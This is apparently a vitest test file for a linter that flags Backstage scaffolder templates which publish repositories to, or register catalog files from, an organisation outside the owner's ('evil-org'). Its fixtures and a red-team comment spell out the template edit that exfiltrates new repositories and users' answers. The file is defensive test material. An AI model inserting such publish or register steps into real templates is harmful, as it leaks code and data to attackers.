import { describe, expect, it } from 'vitest';
import { git } from '../helpers/gitRepo.ts';
import { runBin } from '../helpers/runBin.ts';
import { tempRepo } from '../helpers/tempRepo.ts';

interface Finding { ruleId: string; severity: string; file: string; message: string; hint: string; range: { start: { line: number; column: number } } }

// Red team: a template edit (reviewed only by the template's team through CODEOWNERS) that published every new
// repository publicly to evil-org and registered evil-org's catalog-info.yaml passed check with no finding. A
// Location file with that target is location-target-foreign; a fetch:* url there is template-fetch-foreign.
const group = 'apiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n';
const template = (repoUrl: string, catalogInfoUrl: string) => `apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata:
  name: service
spec:
  type: service
  owner: group:default/team-a
  parameters:
    - properties:
        name: { type: string }
        owner: { type: string }
        repoUrl: { type: string, ui:field: RepoUrlPicker }
  steps:
    - id: publish2
      action: publish:github
      input: { repoUrl: '${repoUrl}', repoVisibility: public, sourcePath: . }
    - id: register2
      action: catalog:register
      input: { catalogInfoUrl: '${catalogInfoUrl}' }
`;

const OWN_PUBLISH = 'github.com?owner=acme&repo=${{ parameters.name }}';
const OWN_REGISTER = '${{ steps.publish2.output.repoContentsUrl }}/catalog-info.yaml';

async function findings(repoUrl: string, catalogInfoUrl: string, config: boolean) {
  const root = await tempRepo({
    ...(config ? { 'gitops.config.yaml': "repoUrl: 'https://github.com/acme/control/blob/main/'\n" } : {}),
    'catalog-info.yaml': group,
    'templates/service/template.yaml': template(repoUrl, catalogInfoUrl),
  });
  git(root, 'init', '-q', '-b', 'main');
  git(root, 'remote', 'add', 'origin', 'https://github.com/acme/control.git');
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'base');
  const check = await runBin(['check', '--format', 'json'], root);
  expect(check.stderr).toBe('');
  const found = (JSON.parse(check.stdout) as { diagnostics: Finding[] }).diagnostics.filter(d => /^template-(publish|register)-foreign$/.test(d.ruleId));
  return { status: check.status, found: found.map(d => `${d.ruleId}@${d.file}:${d.range.start.line}:${d.range.start.column} ${d.severity}`), messages: found.map(d => d.message), hints: found.map(d => d.hint) };
}

describe('check: a publish step outside the organisation', () => {
  it('is an error with repoUrl in gitops.config.yaml', async () => {
    const { status, found, messages, hints } = await findings('github.com?owner=evil-org&repo=${{ parameters.name }}', OWN_REGISTER, true);
    expect(found).toEqual(['template-publish-foreign@templates/service/template.yaml:16:25 error']);
    expect(messages[0]).toBe('publish:github publishes to owner "evil-org" on github.com (repoUrl "github.com?owner=evil-org&repo=${{ parameters.name }}"), outside https://github.com/acme/, the organisation of repoUrl in gitops.config.yaml: once merged, every run of the template creates or pushes a repository there, with what it rendered and the user\'s answers, using the credentials Backstage holds for that host, where whoever owns it can read it and nobody here controls it.');
    expect(hints[0]).toContain('allowedOwners');
    expect(status).toBe(1);
  }, 120_000);

  it('is a warning without gitops.config.yaml (the organisation is the origin\'s, a guess); another host or Azure DevOps organisation is outside too', async () => {
    expect((await findings('github.com?owner=evil-org&repo=${{ parameters.name }}', OWN_REGISTER, false)).found).toEqual(['template-publish-foreign@templates/service/template.yaml:16:25 warning']);
    expect((await findings('gitlab.com?owner=acme&repo=x', OWN_REGISTER, true)).found).toEqual(['template-publish-foreign@templates/service/template.yaml:16:25 error']);
    expect((await findings('dev.azure.com?organization=evil&project=p&repo=x', OWN_REGISTER, true)).found).toEqual(['template-publish-foreign@templates/service/template.yaml:16:25 error']);
  }, 120_000);

  it('says nothing of the organisation written out (any capitals) or an owner or repoUrl an expression chooses', async () => {
    for (const repoUrl of [OWN_PUBLISH, 'github.com?owner=Acme&repo=x', 'github.com?owner=${{ parameters.owner }}&repo=x', '${{ parameters.repoUrl }}', '${{ parameters.host }}?owner=evil-org&repo=x']) {
      expect((await findings(repoUrl, OWN_REGISTER, true)).found, repoUrl).toEqual([]);
    }
  }, 120_000);
});

describe('check: a catalog:register url outside the organisation', () => {
  it('is an error with repoUrl in gitops.config.yaml', async () => {
    const { status, found, messages } = await findings(OWN_PUBLISH, 'https://github.com/evil-org/payload/blob/main/catalog-info.yaml', true);
    expect(found).toEqual(['template-register-foreign@templates/service/template.yaml:19:32 error']);
    expect(messages[0]).toMatch(/^catalog:register registers https:\/\/github\.com\/evil-org\/payload\/blob\/main\/catalog-info\.yaml, a repository outside https:\/\/github\.com\/acme\/, the organisation of repoUrl in gitops\.config\.yaml: /);
    expect(status).toBe(1);
  }, 120_000);

  it('is a warning without gitops.config.yaml', async () => {
    expect((await findings(OWN_PUBLISH, 'https://github.com/evil-org/payload/blob/main/catalog-info.yaml', false)).found).toEqual(['template-register-foreign@templates/service/template.yaml:19:32 warning']);
  }, 120_000);

  it('says nothing of a url in the organisation or one whose owner an expression chooses', async () => {
    for (const url of ['https://github.com/acme/payload/blob/main/catalog-info.yaml', 'https://github.com/acme/${{ parameters.name }}/blob/main/catalog-info.yaml', 'https://github.com/${{ parameters.owner }}/payload/blob/main/catalog-info.yaml', OWN_REGISTER]) {
      expect((await findings(OWN_PUBLISH, url, true)).found, url).toEqual([]);
    }
  }, 120_000);
});

describe('check --list-rules', () => {
  it('lists both rules as errors, and template-fetch-other-revision as an error', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': group });
    const list = await runBin(['check', '--list-rules', '--format', 'json'], root);
    const rules = JSON.parse(list.stdout) as { ruleId: string; severity: string; example?: string }[];
    expect(rules.filter(r => ['template-publish-foreign', 'template-register-foreign', 'template-fetch-other-revision'].includes(r.ruleId)).map(r => `${r.ruleId} ${r.severity} ${Boolean(r.example)}`).sort()).toEqual(['template-fetch-other-revision error true', 'template-publish-foreign error true', 'template-register-foreign error true']);
  }, 60_000);
});
